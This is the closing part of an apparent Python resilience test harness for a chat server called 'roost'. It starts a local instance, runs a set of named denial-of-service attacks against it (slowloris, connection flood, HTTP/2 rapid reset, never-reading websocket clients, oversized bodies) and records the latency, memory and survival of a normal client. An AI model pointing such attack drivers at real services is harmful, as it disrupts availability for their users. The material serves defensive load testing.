    """Signed-in message posts with 2 MiB JSON bodies (the API cap is 1 MiB), chunked and
    declared, and posts over `[chat] max_message_chars` within the cap."""
    path = f"/api/v1/rooms/{args.ws['room']}/messages"
    facts = await oversized_authed(roost, seconds, args, [
        ("chunked 2 MiB JSON", path, 2 << 20, False, "application/json"),
        ("declared 2 MiB JSON", path, 2 << 20, True, "application/json"),
    ])
    conn = roost.connection()
    st, body = roost.request("POST", path, {"body": "x" * 4001}, args.token, conn=conn)
    conn.close()
    facts["4001 characters"] = f"{st} {body['error']['code'] if isinstance(body, dict) else body}"
    return facts


ATTACKS = {
    "slowloris": slowloris,
    "tls_idle": tls_idle,
    "flood": flood,
    "never_read": never_read,
    "oversized_headers": oversized_headers,
    "oversized_body": oversized_body,
    "h2_streams": h2_streams,
    "h2_rapid_reset": h2_rapid_reset,
    "h2_idle_ping": h2_idle_ping,
    "ws_post_only": ws_post_only,
    "ws_never_read": ws_never_read,
    "ws_oversized": ws_oversized,
    "ws_small_frames": ws_small_frames,
    "oversized_upload": oversized_upload,
    "oversized_message": oversized_message,
}
NEEDS_H2 = {"h2_streams", "h2_rapid_reset", "h2_idle_ping"}
# Attacks that need the websocket accounts and room (made once, before the baseline).
NEEDS_WS = {"ws_post_only", "ws_never_read", "ws_oversized", "ws_small_frames", "oversized_message"}


# ---- measuring --------------------------------------------------------------------------------


def run_probe(roost, seconds):
    """The normal client, in its own process so the attack's event loop does not slow it."""
    cmd = [
        sys.executable,
        __file__,
        "--probe",
        json.dumps({"work": str(roost.work), "port": roost.https_port, "seconds": seconds}),
    ]
    return subprocess.Popen(cmd, stdout=subprocess.PIPE, text=True)


def probe_main(spec):
    spec = json.loads(spec)

    class R(Roost):
        def __init__(self):
            self.https_port = spec["port"]
            from pathlib import Path

            self.data_dir = Path(spec["work"]) / "data"

    lat, failures = probe_health(R(), spec["seconds"], source=NORMAL_SOURCE)
    print(json.dumps({"lat": lat, "failures": failures}))


class RssSampler(threading.Thread):
    def __init__(self, roost):
        super().__init__(daemon=True)
        self.roost, self.peak, self.stop_flag = roost, 0, threading.Event()
        self.peak_fds = 0

    def run(self):
        while not self.stop_flag.is_set():
            self.peak = max(self.peak, self.roost.rss_kib() or 0)
            self.peak_fds = max(self.peak_fds, self.roost.open_fds() or 0)
            time.sleep(0.2)


def settle(roost, deadline=60):
    """Waits until the attacker's connections are gone (the server's count is back to ~0)."""
    end = time.monotonic() + deadline
    while time.monotonic() < end:
        if roost.status()["connections"].get("https", 0) <= 1:
            return True
        time.sleep(0.2)
    return False


def mib(kib):
    return round(kib / 1024, 1) if kib else None


def main():
    if len(sys.argv) == 3 and sys.argv[1] == "--probe":
        return probe_main(sys.argv[2])
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawTextHelpFormatter)
    ap.add_argument("--seconds", type=int, default=20, help="length of each attack")
    ap.add_argument("--only", default="", help="comma-separated attack names")
    ap.add_argument("--max-connections", type=int, default=64)
    ap.add_argument("--per-ip", type=int, default=16, help="server.max_connections_per_ip")
    ap.add_argument("--idle-timeout", type=int, default=15, help="limits.idle_timeout_secs")
    ap.add_argument("--slowloris", type=int, default=400, help="connections")
    ap.add_argument("--tls-idle", type=int, default=300, help="connections")
    ap.add_argument("--flood", type=int, default=1000, help="connections")
    ap.add_argument("--never-read", type=int, default=50, help="connections")
    ap.add_argument("--oversized", type=int, default=16, help="connections")
    ap.add_argument("--h2-conns", type=int, default=8, help="connections per HTTP/2 attack")
    ap.add_argument("--ws-clients", type=int, default=300, help="signed-in never-reading clients")
    ap.add_argument("--ws-rcvbuf", type=int, default=4096, help="their SO_RCVBUF (bytes)")
    ap.add_argument("--ws-post-rate", type=float, default=100, help="messages/s during ws attacks")
    ap.add_argument("--ws-chars", type=int, default=4000, help="characters per posted message")
    ap.add_argument("--ws-flooders", type=int, default=16, help="connections in ws_small_frames")
    args = ap.parse_args()
    names = [n for n in (args.only.split(",") if args.only else ATTACKS) if n]
    for n in names:
        if n not in ATTACKS:
            sys.exit(f"unknown attack {n}; one of {', '.join(ATTACKS)}")
    if h2 is None:
        skipped = [n for n in names if n in NEEDS_H2]
        if skipped:
            log(f"h2 (PyPI) missing: skipping {', '.join(skipped)}")
        names = [n for n in names if n not in NEEDS_H2]

    roost = Roost(
        server_extra=f"max_connections = {args.max_connections}\n"
        f"max_connections_per_ip = {args.per_ip}",
        # The gateway pings within the edge's idle deadline (its default 20 s would not be).
        extra_toml=f"[limits]\nidle_timeout_secs = {args.idle_timeout}\n"
        f"[gateway]\nping_interval_secs = {max(1, min(20, args.idle_timeout - 5))}\n",
    )
    roost.add_admin("abuse-admin")
    rows = []
    try:
        roost.start()
        args.token = roost.login("abuse-admin")["access_token"]
        conn = roost.connection()
        for _ in range(500):  # something large to ask for: the invite list (~75 KB)
            roost.request("POST", "/api/v1/invites", {"max_uses": 1}, args.token, conn=conn)
        conn.close()
        if NEEDS_WS & set(names):
            ws_prepare(roost, args)
        log(f"roost pid {roost.pid()}, max_connections {args.max_connections}, "
            f"per address {args.per_ip}, "
            f"idle_timeout {args.idle_timeout}s, {args.seconds}s per attack")

        quiet = run_probe(roost, args.seconds)
        q = json.loads(quiet.communicate()[0])
        rows.append(("quiet baseline", percentiles(q["lat"]), q["failures"], len(q["lat"]),
                     roost.rss_kib(), roost.rss_kib(), roost.rss_kib(), None, {}))
        log(f"baseline: p50/p99/max ms {percentiles(q['lat'])}, RSS {mib(roost.rss_kib())} MiB")

        for name in names:
            before = roost.rss_kib()
            sampler = RssSampler(roost)
            sampler.start()
            probe = run_probe(roost, args.seconds)
            t0, cpu0 = time.monotonic(), roost.cpu_secs()
            facts = asyncio.run(ATTACKS[name](roost, args.seconds, args))
            attack_secs = time.monotonic() - t0
            facts.setdefault("roost_cpu_s", round(roost.cpu_secs() - cpu0, 2))
            p = json.loads(probe.communicate()[0])
            settled = settle(roost)
            sampler.stop_flag.set()
            sampler.join()
            time.sleep(1)
            after = roost.rss_kib()
            alive = roost.proc.poll() is None
            facts["attack_s"] = round(attack_secs, 1)
            facts["settled"] = settled
            facts["peak_fds"] = sampler.peak_fds
            rows.append((name, percentiles(p["lat"]), p["failures"], len(p["lat"]), before,
                         sampler.peak, after, alive, facts))
            log(f"{name}: p50/p99/max ms {percentiles(p['lat'])}, failures {p['failures']}, "
                f"RSS {mib(before)} -> {mib(sampler.peak)} -> {mib(after)} MiB, {facts}")
            if not alive:
                log("roost died")
                break
    finally:
        roost.cleanup()

    print("| attack | normal client p50 / p99 / max (ms) | failed / probes | RSS before / peak / after (MiB) |")
    print("|---|---|---|---|")
    for name, (p50, p99, mx), fails, n, before, peak, after, alive, _ in rows:
        print(f"| {name} | {p50} / {p99} / {mx} | {fails} / {n} | {mib(before)} / {mib(peak)} / {mib(after)} |")
    print()
    for name, *_, facts in rows[1:]:
        print(f"- {name}: {json.dumps(facts)}")
    dead = [r[0] for r in rows[1:] if r[7] is False]
    sys.exit(1 if dead else 0)


if __name__ == "__main__":
    main()
